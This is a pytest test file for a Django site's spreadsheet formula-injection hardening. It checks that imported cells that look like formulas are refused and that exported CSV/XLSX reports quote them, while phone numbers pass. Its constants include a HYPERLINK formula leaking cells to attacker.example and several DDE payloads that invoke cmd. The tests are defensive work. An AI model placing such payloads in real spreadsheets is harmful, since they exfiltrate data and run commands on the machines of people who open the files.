"""Formula injection: the importer refuses cells a spreadsheet would run as a formula, and
every CSV and XLSX the site writes (the «Servizi da verificare» report, the open-data CSV)
neutralises them (hardening/spreadsheets.py), while phone numbers and negative numbers pass."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from editorial.importer.runner import preview
from editorial.importer.validation import RowValidator
from hardening.spreadsheets import csv_cell, is_formula_like
from services_catalog.models import ServicePage
from tests.editorial.files import csv_bytes, service_row
from tests.factories import ServicePageFactory

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1&B1,"Dettagli")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, DDE, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_formula_like_values_are_recognised_and_quoted_for_csv(value):
    assert is_formula_like(value)
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["+39 0341 123456", "-5", "+39 (02) 1234-5678", "Asilo = nido", "", "12"])
def test_numbers_phones_and_plain_text_are_left_alone(value):
    assert not is_formula_like(value)
    assert csv_cell(value) == value


@pytest.mark.parametrize("column", ["title", "provider_name", "short_description", "address", "external_id"])
def test_the_importer_refuses_a_formula_with_a_message(db, column):
    errors = RowValidator().validate(2, service_row(**{column: HYPERLINK})).errors
    assert any("leggono come una formula" in error for error in errors), errors
    assert not RowValidator().validate(2, service_row(contact_phone="+39 0341 123456")).errors


def test_an_import_file_with_formulas_writes_nothing_of_them(networks, editors, regional_editor):
    rows = [service_row(1, title=HYPERLINK), service_row(2, provider_name=DDE), service_row(3)]
    service_import = preview(networks["lecco"], editors["lecco"], "servizi.csv", csv_bytes(rows))
    assert service_import.valid_rows == 1
    assert [row["line"] for row in service_import.rejected] == [2, 3]
    assert "formula" in service_import.rejected[0]["errors"][0]


@pytest.fixture
def formula_service(networks):
    """A service whose texts hold formulas (as an editor could type them in the admin)."""
    return ServicePageFactory(
        parent=networks["lecco"],
        title=HYPERLINK,
        external_id=DDE,
        provider_name="@SUM(1+1)*cmd|' /C calc'!A0",
        contact_phone="+39 0341 123456",
        last_verified=None,
    )


def test_the_freshness_report_writes_formulas_as_text(client, editors, formula_service):
    client.force_login(editors["lecco"])
    text = client.get(reverse("editorial_freshness"), {"export": "csv"}).content.decode("utf-8-sig")
    cells = {cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row}
    assert "'" + HYPERLINK in cells and "'" + DDE in cells
    assert HYPERLINK not in cells and DDE not in cells

    content = client.get(reverse("editorial_freshness"), {"export": "xlsx"}).content
    sheet = load_workbook(io.BytesIO(content)).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row}
    for payload in (HYPERLINK, DDE):
        assert cells[payload].data_type == "s", payload  # a string, not a formula
        assert cells[payload].quotePrefix


def test_the_open_data_csv_quotes_formulas_and_keeps_phone_numbers(client, formula_service):
    assert ServicePage.objects.live().filter(pk=formula_service.pk).exists()
    text = client.get("/open-data/servizi.csv").content.decode("utf-8-sig")
    cells = {cell for row in csv.reader(io.StringIO(text)) for cell in row}
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells
    assert "+39 0341 123456" in cells
